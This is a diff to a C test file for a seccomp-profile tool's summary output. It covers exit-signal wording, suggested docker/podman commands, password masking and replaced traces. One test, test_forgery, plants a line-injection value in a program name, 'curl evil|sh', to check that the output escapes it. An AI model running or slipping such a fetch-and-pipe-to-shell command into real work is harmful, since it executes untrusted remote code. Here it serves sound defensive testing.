@@ -3,6 +3,7 @@
 
 #include <segen/syscall.h>
 
+#include <signal.h>
 #include <string.h>
 
 #include "tests/tap.h"
@@ -58,6 +59,9 @@ static void scene_init(struct scene *s)
 	s->report.n_calls = ARRAY_SIZE(s->judged);
 	s->report.base_allows = 309;
 	s->report.profile_allows = 81;
+	s->report.origins[ORIGIN_SEEN] = 50;
+	s->report.origins[ORIGIN_ESSENTIAL] = 7;
+	s->report.origins[ORIGIN_RUNTIME] = 24;
 	target_init_default(&s->target);
 	run->exit = 3;
 	run->duration_ms = 61000;
@@ -87,13 +91,16 @@ static char *text(const struct scene *s)
 {
 	struct segen_buf out = {};
 
-	summary_text(&s->summary, &out);
+	const struct layout l = {.out = &out, .width = UINT32_MAX};
+
+	summary_text(&s->summary, &l);
 	return out.s;
 }
 
 static void has(const char *text, const char *line)
 {
-	if (!ok(strstr(text, line) != NULL, "%.*s", (int)strcspn(line, "\n"), line))
+	if (!ok(strstr(text, line) != NULL, "summary: has the line '%.*s'",
+		(int)strcspn(line, "\n"), line))
 		printf("# got: %s\n", text);
 }
 
@@ -107,8 +114,9 @@ static void test_all(void)
 	segen_strset_add(&s.trace.runs[0]->notes, "something ended early");
 	got = text(&s);
 	has(got, "segen: 'app' ended with status 3 after 1m01s; 2 processes\n");
-	has(got, "  calls     4 distinct; the profile allows 81 of the 309 that the base "
-		 "does\n");
+	has(got,
+	    "  calls     4 distinct; the profile allows 81 = 50 seen + 7 essential + 24 "
+	    "runtime, of the 309 that the base does\n");
 	has(got, "  gated     chroot: through CAP_SYS_CHROOT\n");
 	has(got, "  gated     syslog: through CAP_SYSLOG or CAP_SYS_ADMIN\n");
 	has(got, "  remark    something ended early\n");
@@ -117,8 +125,9 @@ static void test_all(void)
 	has(got, "  profile   app.seccomp.json\n");
 	has(got,
 	    "  next      docker run --security-opt seccomp=app.seccomp.json IMAGE\n");
-	ok(!strstr(got, "bpf"), "a gate of the architecture is not worth a line");
-	ok(!strstr(got, "read"), "nor is a call that is simply allowed");
+	ok(!strstr(got, "bpf"),
+	   "summary: a gate of the architecture is not worth a line");
+	ok(!strstr(got, "read"), "summary: a call that is simply allowed is not listed");
 }
 
 static void test_shut_gate(void)
@@ -129,7 +138,8 @@ static void test_shut_gate(void)
 	scene_init(&s);
 	s.judged[1].gate_open = false;
 	got = text(&s);
-	ok(!strstr(got, "through CAP_SYS_CHROOT"), "nothing goes through a shut gate");
+	ok(!strstr(got, "through CAP_SYS_CHROOT"),
+	   "summary: nothing goes through a shut gate");
 }
 
 static void test_capabilities(void)
@@ -155,7 +165,8 @@ static void test_no_profile(void)
 	got = text(&s);
 	has(got, "  calls     4 distinct\n");
 	has(got, "  next      segen gen app.trace.json -o app.seccomp.json\n");
-	ok(!strstr(got, "docker") && !strstr(got, "  profile "), "no word of a profile");
+	ok(!strstr(got, "docker") && !strstr(got, "  profile "),
+	   "no profile: no word of it");
 }
 
 static void test_standard_output(void)
@@ -168,7 +179,7 @@ static void test_standard_output(void)
 	got = text(&s);
 	ok(!strstr(got, "  trace ") && !strstr(got, "  profile ") &&
 		   !strstr(got, "  next "),
-	   "what went to standard output is no file");
+	   "standard output: is not named as a file");
 }
 
 static void test_many_runs(void)
@@ -183,8 +194,165 @@ static void test_many_runs(void)
 	has(got, "; 2 processes; the trace holds 2 runs\n");
 }
 
+static void test_ends(void)
+{
+	static const struct {
+		int status, signal;
+		enum ended_by by;
+		const char *want;
+	} ends[] = {
+		{139, SIGSEGV, ENDED_BY_ITSELF,
+		 "was ended by SIGSEGV (status 139) after"},
+		{130, SIGINT, ENDED_BY_ITSELF,
+		 "was ended by SIGINT, ^C (status 130) after"},
+		{163, 35, ENDED_BY_ITSELF, "was ended by signal 35 (status 163) after"},
+		{139, 0, ENDED_BY_ITSELF, "ended with status 139 after"},
+		{143, SIGTERM, ENDED_BY_TIME,
+		 "was ended by --for (SIGTERM; status 143) after"},
+		{137, SIGKILL, ENDED_BY_TIME_KILL,
+		 "was ended by --for (SIGKILL, as it did not end at SIGTERM; status 137)"},
+		{137, SIGKILL, ENDED_BY_SECOND_INT,
+		 "was ended by a second interrupt (SIGKILL; status 137)"},
+		{-1, 0, ENDED_BY_ITSELF, "was recorded for"},
+	};
+
+	for (size_t i = 0; i < ARRAY_SIZE(ends); i++) {
+		_cleanup_(scene_done) struct scene s;
+		_cleanup_free_ char *got = NULL;
+
+		scene_init(&s);
+		s.trace.runs[0]->exit = ends[i].status;
+		s.summary.signal = ends[i].signal;
+		s.summary.ended_by = ends[i].by;
+		got = text(&s);
+		has(got, ends[i].want);
+	}
+}
+
+static void test_advice(void)
+{
+	_cleanup_(scene_done) struct scene s;
+	_cleanup_free_ char *failed = NULL, *good = NULL;
+
+	scene_init(&s);
+	failed = text(&s);
+	has(failed, "  failed    what comes after the failure is not in the trace");
+	s.trace.runs[0]->exit = 0;
+	good = text(&s);
+	ok(!strstr(good, "  failed "),
+	   "summary: a workload that succeeds has not failed");
+}
+
+static void test_forgery(void)
+{
+	_cleanup_(scene_done) struct scene s;
+	_cleanup_free_ char *got = NULL;
+
+	scene_init(&s);
+	s.summary.name = "a\n  profile   evil.json\n  next      curl evil|sh";
+	segen_strset_add(&s.trace.runs[0]->notes, "x\n  next \342\200\256 \tmore");
+	got = text(&s);
+	has(got, "segen: 'a\\n  profile   evil.json\\n  next      curl evil|sh' ended");
+	has(got, "  remark    x\\n next \\u202e \\tmore\n");
+	ok(!strstr(got, "\n  profile   evil"), "names: cannot add a line");
+}
+
+static void test_news(void)
+{
+	_cleanup_(scene_done) struct scene s;
+	_cleanup_free_ char *first = NULL, *none = NULL;
+	char *argv[] = {(char *)"app", NULL};
+
+	scene_init(&s);
+	s.summary.appended = true;
+	strcpy(s.trace.runs[0]->id, "000000010000000000000000");
+	first = text(&s);
+	has(first,
+	    "  added     4 calls that no run before made: read, chroot, syslog, bpf\n");
+	for (unsigned i = 2; i < 5; i++) {
+		size_t run = segen_trace_add_run(&s.trace, argv);
+
+		snprintf(s.trace.runs[run]->id, sizeof(s.trace.runs[run]->id),
+			 "%08x0000000000000000", i);
+		segen_call_seen(s.trace.calls[0], run)->count++;
+		s.summary.run_index = run;
+	}
+	none = text(&s);
+	has(none, "  added     nothing new, for 3 runs in a row\n");
+}
+
+static void test_next(void)
+{
+	static const struct {
+		const char *argv[12], *want;
+	} lines[] = {
+		{{"podman", "run", "--rm", "bb", "sh", "-c", "echo a b"},
+		 "  next      podman run --security-opt seccomp=app.seccomp.json --rm bb sh -c "
+		 "'echo a b'\n"},
+		{{"docker", "run", "--security-opt", "seccomp=unconfined",
+		  "--security-opt", "no-new-privileges", "bb"},
+		 "  next      docker run --security-opt seccomp=app.seccomp.json --security-opt "
+		 "no-new-privileges bb\n"},
+		{{"docker", "run", "-e", "PASSWORD=x1", "bb"},
+		 "  next      docker run --security-opt seccomp=app.seccomp.json -e "
+		 "'PASSWORD=***' bb\n"},
+	};
+
+	for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
+		_cleanup_(scene_done) struct scene s;
+		_cleanup_free_ char *got = NULL;
+		struct engine_cmdline c;
+
+		scene_init(&s);
+		engine_cmdline_parse((char *const *)lines[i].argv, &c);
+		s.summary.argv = (char *const *)lines[i].argv;
+		s.summary.engine = &c;
+		got = text(&s);
+		has(got, lines[i].want);
+	}
+}
+
+static void test_next_plain(void)
+{
+	_cleanup_(scene_done) struct scene s;
+	_cleanup_free_ char *got = NULL;
+	char *argv[] = {(char *)"tar", (char *)"-cf", (char *)"my file", NULL};
+
+	scene_init(&s);
+	s.summary.argv = argv;
+	s.trace.runs[0]->container.known = s.trace.runs[0]->container.no_new_privs = true;
+	got = text(&s);
+	has(got, "  next      docker run --security-opt no-new-privileges --security-opt "
+		 "seccomp=app.seccomp.json IMAGE tar -cf 'my file'\n");
+}
+
+static void test_replaced(void)
+{
+	_cleanup_(scene_done) struct scene s;
+	_cleanup_(earlier_done) struct earlier e = {
+		.path = xstrdup("app.trace.json.old")};
+	_cleanup_free_ char *got = NULL;
+
+	scene_init(&s);
+	segen_strset_add(&e.lost, "mkdir");
+	s.summary.earlier = &e;
+	got = text(&s);
+	has(got,
+	    "  replaced  the trace that was here held 1 call more than this run (mkdir); "
+	    "it is kept as app.trace.json.old; to unite both:\n");
+	has(got,
+	    "            segen merge -o app.trace.json app.trace.json.old app.trace.json\n");
+}
+
 int main(void)
 {
+	test_ends();
+	test_advice();
+	test_forgery();
+	test_news();
+	test_next();
+	test_next_plain();
+	test_replaced();
 	test_all();
 	test_shut_gate();
 	test_capabilities();
